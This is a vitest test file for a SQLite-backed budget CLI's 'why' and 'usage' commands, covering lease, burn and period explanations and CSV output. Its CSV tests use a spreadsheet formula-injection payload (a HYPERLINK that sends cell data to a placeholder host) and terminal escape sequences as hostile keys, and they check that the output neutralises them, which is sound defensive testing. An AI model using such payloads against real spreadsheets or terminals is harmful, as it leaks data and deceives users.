import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { usage } from '../../src/cli/usage.ts'
import { why } from '../../src/cli/why.ts'
import { open, type Policy } from '../../src/index.ts'
import { sqlite } from '../../src/stores/sqlite/index.ts'
import { aFolder, aStore, tamper } from './store-fixture.ts'

const NOON = Date.parse('2026-03-15T12:00:00Z')

/** A store whose one budget was asked so often. */
async function used(policy: Policy, units: number, then: (path: string) => Promise<void>): Promise<void> {
  const path = join(aFolder(), 'store.db')
  const vsa = open({
    store: sqlite(path, { thread: false, now: () => NOON }),
    label: 'api-1',
    // An idle lease is not given back before `then` has looked.
    flushIntervalMs: 2_500,
    onEvent: () => undefined,
  })
  for (let unit = 0; unit < units; unit += 1) await vsa.budget('calls', policy).admit()
  await vsa.flush()
  await then(path)
  await vsa.close()
}

describe('vsa why', () => {
  test('all is used: when the next period begins', async () => {
    await used({ limit: 3, per: 'day', atRisk: 0 }, 4, async (path) => {
      const { ok, json, text } = await why(path, 'calls', NOON, 'UTC')
      expect(ok).toBe(true)
      expect(json).toMatchObject({ reason: 'exhausted', used: 3, moreAt: Date.parse('2026-03-16T00:00:00Z') })
      expect(text).toMatch(
        /^calls: all of its 3 units are used\. The next period begins at 2026-03-16T00:00:00Z, in 12 h\./,
      )
    })
  })

  test('others hold what is left: who, how much, and since when', async () => {
    await used({ limit: 10, per: 'day', atRisk: 10 }, 1, async (path) => {
      await tamper(path, 'UPDATE lease SET held = held + (SELECT pool FROM budget); UPDATE budget SET pool = 0')
      const { json, text } = await why(path, 'calls', NOON + 2_000, 'UTC')
      expect(json).toMatchObject({
        ...{ reason: 'leased', pool: 0, leased: 9 },
        leases: [{ epoch: 1, leased: 9, label: 'api-1', state: 'open' }],
      })
      // One word for one thing, as in the text and in the other commands.
      expect(JSON.stringify(json)).not.toContain('held')
      expect(text).toMatch(/its pool is empty, and owners hold \d+ units/)
      expect(text).toMatch(/open +2 s ago +in \d+ s +api-1$/)
      expect((await why(path, 'calls', NOON + 60_000, 'UTC')).text).toMatch(/ago: it burns +api-1$/)
      // S8: the lease of an epoch that has ended counts as burned.
      await tamper(path, "UPDATE owner SET state = 'closed'")
      const ended = await why(path, 'calls', NOON + 60_000, 'UTC')
      expect(ended.json).toMatchObject({ reason: 'burned', leased: 0, burning: 9 })
      expect(ended.text).toMatch(/9 units burned with owners that died/)
    })
  })

  test('credits: nothing minted, and then something there', async () => {
    await used({ initial: 0 }, 1, async (path) => {
      expect((await why(path, 'calls', NOON, 'UTC')).text).toMatch(/^calls: nothing was minted yet/)
    })
    await used({ initial: 5 }, 5, async (path) => {
      expect((await why(path, 'calls', NOON, 'UTC')).text).toMatch(/all of its 5 units are used\. Mint units/)
    })
    await used({ initial: 5 }, 4, async (path) => {
      const { json, text } = await why(path, 'calls', NOON, 'UTC')
      expect(json).toMatchObject({ reason: 'available', moreAt: null })
      expect(text).toMatch(/it need not deny: 1 unit is in the pool\. A request for more than 1 is denied/)
    })
  })

  test('burned units, and a period that is over', async () => {
    await used({ limit: 10, per: 'day', atRisk: 0 }, 1, async (path) => {
      await tamper(path, 'UPDATE budget SET burned = pool, pool = 0')
      const { json, text } = await why(path, 'calls', NOON, 'UTC')
      expect(json).toMatchObject({ reason: 'burned', burned: 9 })
      expect(text).toMatch(/9 units burned with owners that died/)
      expect(text).toMatch(/burned +9 +no lease grows any more: 1 may burn in a period/)
      expect((await why(path, 'calls', NOON + 86_400_000, 'UTC')).json).toMatchObject({ reason: 'over' })
    })
  })

  test('an unknown key and a row that cannot be read are errors', async () => {
    const path = await aStore(aFolder())
    await expect(why(path, 'concert-44', NOON, 'UTC')).rejects.toMatchObject({
      code: 'unknown_key',
      message: expect.stringMatching(/has no budget called 'concert-44': no process has asked/) as string,
    })
    await tamper(path, "UPDATE budget SET used = 9223372036854775000 WHERE key = 'concert-42'")
    await expect(why(path, 'concert-42', NOON, 'UTC')).rejects.toMatchObject({ code: 'row_damaged' })
  })
})

test('why and usage of a counter say that it is one', async () => {
  const path = await aStore(aFolder())
  const said = {
    code: 'unknown_key',
    message: expect.stringMatching(/'likes' is a counter, which has no limit.*vsa inspect/) as string,
  }
  await expect(why(path, 'likes', NOON, 'UTC')).rejects.toMatchObject(said)
  await expect(usage(path, 'likes', { isCsv: false, rowsMax: 50, timeZone: 'UTC' })).rejects.toMatchObject(said)
})

describe('vsa usage', () => {
  const OPTIONS = { isCsv: false, rowsMax: 50, timeZone: 'UTC' }
  const CSV = { ...OPTIONS, isCsv: true }

  test('each budget and period, as CSV, JSON and a table', async () => {
    await used({ limit: 10, per: 'day', atRisk: 0 }, 3, async (path) => {
      expect((await usage(path, undefined, CSV)).text).toBe(
        'key,from,to,limit,minted,used,reserved,burned,leased\ncalls,2026-03-15T00:00:00Z,2026-03-16T00:00:00Z,10,10,3,0,0,0',
      )
      const { json, text } = await usage(path, 'calls', OPTIONS)
      expect(json).toMatchObject({ usage: [{ key: 'calls', from: NOON - 43_200_000, used: 3 }], unreadable: [] })
      expect(text).toMatch(/calls +2026-03-15T00:00:00Z +2026-03-16T00:00:00Z +10 +10 +3 +0 +0 +0$/)
    })
  })

  test('keys are quoted as RFC 4180 says, and credits have no period', async () => {
    const path = join(aFolder(), 'store.db')
    const vsa = open({ store: sqlite(path, { thread: false }), onEvent: () => undefined })
    for (const key of ['a,b', 'say "hi"', 'two\nlines', 'plain']) await vsa.budget(key, { initial: 5 }).admit()
    await vsa.close()
    expect((await usage(path, undefined, CSV)).text.split('\n').toSorted((a, b) => (a < b ? -1 : 1))).toEqual(
      ['"a,b",,,5,5,1,0,0,0', '"say ""hi""",,,5,5,1,0,0,0', '"two', 'key,from,to,limit,minted,used,reserved,burned,leased', 'lines",,,5,5,1,0,0,0', 'plain,,,5,5,1,0,0,0'], // oxfmt-ignore
    )
    expect((await usage(path, undefined, { ...OPTIONS, rowsMax: 1 })).text).toContain('... and 3 more rows: see --rows')
  })

  test('CSV on a terminal has no control characters, and elsewhere the keys are as they are', async () => {
    const path = join(aFolder(), 'store.db')
    const vsa = open({ store: sqlite(path, { thread: false }), onEvent: () => undefined })
    await vsa.budget('\u001b[2J,two\nlines\u202e', { initial: 5 }).admit()
    await vsa.close()
    const rest = ',,,5,5,1,0,0,0'
    expect((await usage(path, undefined, CSV)).text).toContain(`"\u001b[2J,two\nlines\u202e"${rest}`)
    const shown = (await usage(path, undefined, { ...CSV, isTerminal: true })).text
    expect(shown.split('\n')[1]).toBe(String.raw`"\u{1b}[2J,two\u{a}lines\u{202e}"` + rest)
  })

  test('CSV for a spreadsheet has no key that is a formula', async () => {
    const path = join(aFolder(), 'store.db')
    const vsa = open({ store: sqlite(path, { thread: false }), onEvent: () => undefined })
    const formulas = ['=HYPERLINK("http://x/?"&A1,"x")', '+1', '-1', '@SUM(1)', '\t=1', '\r=1', '\n=1', '＝1', '＋1', '－1', '＠1'] // oxfmt-ignore
    const plain = ['a=1', 'a;=1', "'a", 'a-1']
    for (const key of [...formulas, ...plain]) await vsa.budget(key, { initial: 5 }).admit()
    await vsa.close()
    const { text } = await usage(path, undefined, { ...CSV, isForSpreadsheet: true })
    const cells = [...text.matchAll(/"((?:[^"]|"")*)",,,5,5,1,0,0,0(?:\n|$)/g)].map(([, cell = '']) => cell)
    expect(cells.toSorted()).toEqual([...formulas.map((key) => `'${key.replaceAll('"', '""')}`), ...plain].toSorted())
    expect((await usage(path, '+1', CSV)).text).toContain('\n+1,,,5')
  })

  test('a row that cannot be read does not go unseen', async () => {
    const path = await aStore(aFolder())
    await tamper(path, "UPDATE budget SET used = 9223372036854775000 WHERE key = 'concert-42'")
    await expect(usage(path, undefined, CSV)).rejects.toMatchObject({ code: 'row_damaged' })
    expect(await usage(path, undefined, OPTIONS)).toMatchObject({ ok: false, json: { usage: [{ key: 'concert-43' }] } })
    await expect(usage(path, 'concert-44', CSV)).rejects.toMatchObject({ code: 'unknown_key' })
  })
})
